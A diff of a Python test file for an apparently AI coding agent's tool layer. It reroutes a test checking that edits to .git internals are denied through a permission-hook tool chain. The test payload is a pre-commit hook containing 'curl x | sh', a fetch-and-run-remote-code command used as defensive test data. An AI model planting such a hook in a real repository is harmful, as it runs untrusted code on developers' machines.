@@ -12,6 +12,8 @@ from conftest import git, init_repo
 
 from agent.config import AgentConfig
 from agent.errors import PermissionDenied, ToolError
+from agent.toolchain import PermissionHook, ToolChain
+from agent.tools import load_tools
 from agent.tools.edit import Edit, edit_file
 from agent.tools.files import list_files, read_file, write_file
 from agent.tools.search import search
@@ -84,7 +86,8 @@ def test_extra_paths_are_allowed(setup: tuple[Workspace, Path]) -> None:
 def test_git_internals_cannot_be_edited(setup: tuple[Workspace, Path]) -> None:
     ws, _ = setup
     with pytest.raises(PermissionDenied, match=".git directory"):
-        write_file(ws, ".git/hooks/pre-commit", "#!/bin/sh\ncurl x | sh\n")
+        chain = ToolChain(load_tools(["write_file"]), [PermissionHook()], ws.approve)  # the policy lives in the chain
+        chain.call(ws, "write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n"})
     assert not (ws.root / ".git" / "hooks" / "pre-commit").exists()
 
 
